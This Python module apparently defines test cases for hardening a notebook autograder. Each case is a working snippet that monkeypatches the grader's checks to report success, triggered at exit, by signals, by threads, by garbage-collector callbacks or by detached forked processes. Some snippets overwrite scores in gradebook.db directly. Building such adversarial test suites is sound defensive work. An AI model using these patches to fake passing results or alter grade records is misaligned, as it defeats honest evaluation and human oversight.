"""Something that happens later: at exit, on a signal, in a thread, in a process of its own."""

import os

from ..attack import ANSWERS, code

NAP = f"1000.{os.getpid()}"  # seconds; in another run on this machine others
_YES = """
def yes():
    from helpers.checks import contract, instant
    from helpers.checks.asking import ask
    from helpers.checks.result import Result

    Result.__repr__ = lambda self: str(self.maximum)
    instant.check = lambda *_, **__: contract.Verdict("right", (("Yes.",),))
    ask.collect = lambda *_, **__: {"state": "right"}
"""
_DETACHES = {"plain": False, "why": "leaves processes behind that nothing ends"}


def later(name, about, source, **more):
    """An attack by code that has `yes()`, which makes the checks of its process say yes."""
    return code(name, about, _YES + source, **more)


ATTACKS = (
    later(
        "at-exit",
        "Functions that run at exit write grades and print points.",
        """
import atexit, glob, os, sqlite3, weakref

def write():
    print(3)
    for path in glob.glob("**/gradebook.db") + glob.glob("../../gradebook.db"):
        with sqlite3.connect(path, timeout=5) as db:
            db.execute("update grade set auto_score = 3")

atexit.register(write)

class Last:
    def __del__(self):
        write()

last = Last()
weakref.finalize(last, write)
get_ipython().atexit_operations = write
""",
    ),
    later(
        "on-signals",
        "Every signal makes the checks say yes, and none ends the process.",
        """
import signal

for number in signal.valid_signals():
    try:
        signal.signal(number, lambda *_: yes())
    except (OSError, ValueError):
        pass
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
signal.raise_signal(signal.SIGUSR1)
""",
    ),
    later(
        "on-collection",
        "The garbage collector, a finaliser and an audit hook make the checks say yes.",
        """
import gc, sys, weakref

gc.callbacks.append(lambda *_: yes())
sys.addaudithook(lambda *_: None)
gc.set_threshold(1, 1, 1)
""",
    ),
    later(
        "thread-patches",
        "A thread patches the checks again and again.",
        """
import threading, time

def again():
    while True:
        yes()
        time.sleep(0.001)

threading.Thread(target=again, daemon=True).start()
""",
    ),
    later(
        "thread-swaps",
        "A thread swaps the answers between calls, and the results while they are packed.",
        f"""
import threading, time

def wrong(*_, **__):
    return 0

def swap():
    while True:
        for answer in (wrong, 3, lambda *_, **__: True):
            {ANSWERS} = answer
            globals().update(entropy=answer, max_entropy_pmf=answer)
            time.sleep(0)

threading.Thread(target=swap, daemon=True).start()
""",
    ),
    later(
        "array-changes-later",
        "A returned array is changed by a thread after it was looked at.",
        """
import threading
import numpy as np

shared = np.zeros(64)

def entropy(pmf):
    return shared[:1].reshape(())

def pmf_from_counts(counts):
    return shared[: len(counts)]

def churn():
    while True:
        shared[:] = np.random.rand(64)

threading.Thread(target=churn, daemon=True).start()
""",
    ),
    later(
        "asynchronous",
        "A task of the event loop, a timer and a scheduler wait for the checks.",
        """
import asyncio, sched, threading

async def again():
    while True:
        yes()
        await asyncio.sleep(0.001)

try:
    task = asyncio.get_running_loop().create_task(again())
except RuntimeError:
    pass
threading.Timer(0.05, yes).start()
""",
    ),
    later(
        "detached",
        "A process that is forked twice, in a session of its own, waits to write grades.",
        """
import os, signal, sqlite3, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        while True:
            for top in (".", "../..", "../../..", "/tmp"):
                path = f"{top}/gradebook.db"
                if os.path.exists(path):
                    try:
                        with sqlite3.connect(path, timeout=1) as db:
                            db.execute("update grade set auto_score = 3")
                    except sqlite3.Error:
                        pass
            time.sleep(0.05)
    os._exit(0)
""",
        **_DETACHES,
    ),
    later(
        "detached-command",
        "Commands with nohup, setsid and a shell in the background.",
        """
import os, subprocess, sys

loop = "import time\\nwhile True: time.sleep(0.1)"
subprocess.Popen([sys.executable, "-c", loop], start_new_session=True)
os.system("nohup setsid sleep NAP >/dev/null 2>&1 &")
get_ipython().system("sleep NAP &")
""".replace("NAP", NAP),
        **_DETACHES,
    ),
    later(
        "detached-answering",
        "A forked copy holds the channel open and answers in the shell's place, which ends.",
        """
import os, time

if os.fork() == 0:
    time.sleep(1000)
os._exit(0)
""",
        stopped=True,
        **_DETACHES,
    ),
    later(
        "forked-shell",
        "Both halves of a fork go on as the shell: each cell runs, and is answered, twice.",
        """
import os

os.fork()
""",
        plain=False,
        why="two kernels on the same sockets hang",
    ),
    later(
        "replaced-program",
        "The process becomes another program, which says that all is well.",
        """
import os, sys

program = "import os\\nfor d in range(3, 64):\\n try: os.write(d, b'3')\\n except OSError: pass"
os.execv(sys.executable, [sys.executable, "-c", program])
""",
        stopped=True,
        plain=False,
        why="ends the kernel, at which nbgrader aborts the submission",
    ),
)
